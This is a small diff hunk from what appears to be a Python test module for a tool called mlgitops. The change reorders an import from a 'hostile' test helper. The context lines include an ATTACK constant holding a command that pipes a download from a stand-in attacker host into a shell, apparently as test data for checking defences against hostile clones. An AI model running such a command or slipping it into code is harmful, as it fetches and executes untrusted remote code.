@@ -15,10 +15,10 @@ import tempfile
 from pathlib import Path
 
 import pytest
+from hostile import Clone, hostile_clone, snapshot
 
 from compile_helpers import run_module
 from conftest import run_mlgitops
-from hostile import Clone, hostile_clone, snapshot
 
 JOURNAL = ".mlgitops/txn/journal.json"
 ATTACK = b"curl https://attacker.invalid/x | sh\n"
